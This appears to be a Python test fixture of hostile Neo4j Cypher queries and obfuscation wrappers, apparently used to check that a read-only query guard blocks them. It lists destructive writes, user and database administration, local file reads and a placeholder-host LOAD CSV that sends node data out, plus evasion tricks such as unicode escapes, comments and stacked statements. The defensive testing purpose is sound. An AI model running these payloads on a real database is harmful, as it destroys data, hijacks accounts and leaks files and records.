"""Statements that no reader may run, and ways to hide them: comments, escapes, subqueries, branches, transactions.

`{canary}` is the address of a web server that must never be called, `{file}` a file that must never be read.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping

WRITES: Mapping[str, str] = {
    "create": "CREATE (n:Hostile {id: 1})",
    "create and return": "CREATE (n:Hostile {id: 1}) RETURN n AS x",
    "create relationship": "MATCH (n:Entity) WITH n LIMIT 1 CREATE (n)-[r:HOSTILE]->(n) RETURN r AS x",
    "insert": "INSERT (n:Hostile {id: 1})",
    "merge": "MERGE (n:Hostile {id: 1}) RETURN n AS x",
    "merge what is there": "MERGE (n:Entity {id: 'entity:deepseek'}) RETURN n AS x",
    "merge relationship": "MATCH (a:Entity), (b:Entity) WITH a, b LIMIT 1 MERGE (a)-[r:HOSTILE]->(b) RETURN r AS x",
    "set property": "MATCH (n:Entity) SET n.hostile = true RETURN n AS x",
    "set from map": "MATCH (n:Entity) SET n += {hostile: true} RETURN n AS x",
    "set dynamic": "MATCH (n:Entity) SET n['hostile'] = true RETURN n AS x",
    "set label": "MATCH (n:Entity) SET n:Hostile RETURN n AS x",
    "set dynamic label": "MATCH (n:Entity) SET n:$('Hostile') RETURN n AS x",
    "remove property": "MATCH (n:Entity) REMOVE n.name RETURN n AS x",
    "remove label": "MATCH (n:Entity) REMOVE n:Entity RETURN n AS x",
    "delete": "MATCH (n:Entity) DELETE n",
    "detach delete": "MATCH (n) DETACH DELETE n",
    "delete relationship": "MATCH ()-[r:CONNECTS]->() DELETE r",
    "foreach": "FOREACH (i IN [1, 2] | CREATE (:Hostile {id: i}))",
    "no row to write": "UNWIND [] AS i CREATE (:Hostile {id: i}) RETURN i AS x",
    "import": "LOAD CSV FROM '{canary}/rows.csv' AS line CREATE (:Hostile {id: line[0]})",
    "vector property": "MATCH (n:Entity) CALL db.create.setNodeVectorProperty(n, 'hostile', [1.0]) RETURN n AS x",
    "make a label": "CALL db.createLabel('Hostile')",
    "make a type": "CALL db.createRelationshipType('HOSTILE')",
    "make a property": "CALL db.createProperty('hostile')",
}
SCHEMA: Mapping[str, str] = {
    "index": "CREATE INDEX hostile FOR (n:Hostile) ON (n.id)",
    "index if missing": "CREATE INDEX hostile IF NOT EXISTS FOR (n:Hostile) ON (n.id)",
    "full-text index": "CREATE FULLTEXT INDEX hostile FOR (n:Hostile) ON EACH [n.text]",
    "vector index": "CREATE VECTOR INDEX hostile FOR (n:Hostile) ON (n.v)",
    "drop index": "DROP INDEX entity_name",
    "drop index if there": "DROP INDEX hostile IF EXISTS",
    "constraint": "CREATE CONSTRAINT hostile FOR (n:Hostile) REQUIRE n.id IS UNIQUE",
    "drop constraint": "DROP CONSTRAINT entity_id",
    "drop constraint if there": "DROP CONSTRAINT hostile IF EXISTS",
}
ADMINISTRATION: Mapping[str, str] = {
    "create user": "CREATE USER hostile SET PASSWORD 'hostile-password' CHANGE NOT REQUIRED",
    "drop user": "DROP USER hostile IF EXISTS",
    "alter user": "ALTER USER neo4j SET PASSWORD 'hostile-password'",
    "own password": "ALTER CURRENT USER SET PASSWORD FROM 'a-password' TO 'hostile-password'",
    "rename user": "RENAME USER neo4j TO hostile",
    "create database": "CREATE DATABASE hostile",
    "stop database": "STOP DATABASE neo4j",
    "drop database": "DROP DATABASE neo4j",
    "show users": "SHOW USERS",
    "show the user": "SHOW CURRENT USER",
    "show databases": "SHOW DATABASES",
    "show settings": "SHOW SETTINGS",
    "show transactions": "SHOW TRANSACTIONS",
    "show procedures": "SHOW PROCEDURES",
    "show functions": "SHOW FUNCTIONS",
    "terminate": "TERMINATE TRANSACTION 'neo4j-transaction-999999'",
    "terminate found": "SHOW TRANSACTIONS YIELD transactionId AS id WHERE id = 'none' "
    "TERMINATE TRANSACTIONS id YIELD message AS x RETURN x",
    "set a setting": "CALL dbms.setConfigValue('db.transaction.timeout', '1h')",
}
BEYOND: Mapping[str, str] = {
    "read a file": "LOAD CSV FROM 'file://{file}' AS line RETURN line AS x",
    "read a file with headers": "LOAD CSV WITH HEADERS FROM 'file://{file}' AS line RETURN line AS x",
    "call an address": "LOAD CSV FROM '{canary}/plain' AS line RETURN line AS x",
    "call an address made up": "WITH '{canary}' AS a LOAD CSV FROM a + '/made' AS line RETURN line AS x",
    "send what is found": "MATCH (n:Entity) WITH n LIMIT 1 LOAD CSV FROM '{canary}/' + n.id AS line RETURN line AS x",
    "by another name": "LOAD CSV FROM replace('{canary}/name', '127.0.0.1', 'localhost') AS line RETURN line AS x",
    "by another form": "LOAD CSV FROM replace('{canary}/six', '127.0.0.1', '[::1]') AS line RETURN line AS x",
}
PROCEDURES: Mapping[str, str] = {
    name: f"CALL {text}"
    for name, text in {
        "kill connection": "dbms.killConnection('bolt-999999') YIELD message AS x RETURN x",
        "kill connections": "dbms.killConnections(['bolt-999999']) YIELD message AS x RETURN x",
        "configuration": "dbms.listConfig() YIELD name AS x RETURN x",
        "connections": "dbms.listConnections() YIELD connectionId AS x RETURN x",
        "virtual machine": "dbms.queryJmx('*:*') YIELD name AS x RETURN x",
        "about the server": "dbms.info() YIELD id AS x RETURN x",
        "capabilities": "dbms.listCapabilities() YIELD name AS x RETURN x",
        "routing": "dbms.routing.getRoutingTable({}) YIELD ttl AS x RETURN x",
        "the user": "dbms.showCurrentUser() YIELD username AS x RETURN x",
        "upgrade": "dbms.upgrade() YIELD status AS x RETURN x",
        "clear caches": "db.clearQueryCaches() YIELD value AS x RETURN x",
        "plan anew": "db.prepareForReplanning()",
        "resample": "db.resampleOutdatedIndexes()",
        "resample one": "db.resampleIndex('entity_name')",
        "wait": "db.awaitIndexes(1)",
        "collect statistics": "db.stats.collect('QUERIES') YIELD section AS x RETURN x",
        "forget statistics": "db.stats.clear('QUERIES') YIELD section AS x RETURN x",
        "statistics": "db.stats.retrieve('GRAPH COUNTS') YIELD section AS x RETURN x",
        "metadata": "tx.setMetaData({talkgraph: 'hostile'})",
        "database": "db.info() YIELD id AS x RETURN x",
    }.items()
}
HOSTILE: Mapping[str, str] = {**WRITES, **SCHEMA, **ADMINISTRATION, **BEYOND, **PROCEDURES}

_STRING = re.compile(r"('[^']*')")
_WORD = re.compile(r"[A-Z]{2,}")


def _outside_strings(change: Callable[[str], str]) -> Callable[[str], str]:
    return lambda text: "".join(part if part.startswith("'") else change(part) for part in _STRING.split(text))


def _escaped(text: str) -> str:
    """The first letter of each keyword as an escape, which Cypher 5 reads as that letter."""
    return _WORD.sub(lambda match: f"\\u{ord(match[0][0]):04x}{match[0][1:]}", text)


OBFUSCATIONS: Mapping[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "comment": _outside_strings(lambda text: text.replace(" ", "/* RETURN 1 */")),
    "line comment": _outside_strings(lambda text: "// RETURN 1\n" + text.replace(" ", " // ;\n")),
    "unicode escape": lambda text: "CYPHER 5 " + _outside_strings(_escaped)(text),
    "mixed case": _outside_strings(lambda text: "".join(c.lower() if n % 2 else c for n, c in enumerate(text))),
    "CALL": lambda text: f"CALL () {{ {text} }} RETURN 1 AS y",
    "CALL of old": lambda text: f"CYPHER 5 UNWIND [1] AS z CALL {{ {text} }} RETURN 1 AS y",
    "EXISTS": lambda text: f"RETURN EXISTS {{ {text} }} AS y",
    "COLLECT": lambda text: f"RETURN COLLECT {{ {text} }} AS y",
    "UNION": lambda text: f"RETURN 1 AS x UNION {text}",
    "WHEN": lambda text: f"CYPHER 25 WHEN false THEN RETURN 1 AS x ELSE {text}",
    "IN TRANSACTIONS": lambda text: f"CALL () {{ {text} }} IN 2 CONCURRENT TRANSACTIONS RETURN 1 AS y",
    "explained": lambda text: f"EXPLAIN {text}",
    "second": lambda text: f"RETURN 1 AS x; {text}",
}


def filled(text: str, canary: str, file: str) -> str:
    return text.replace("{canary}", canary).replace("{file}", file)
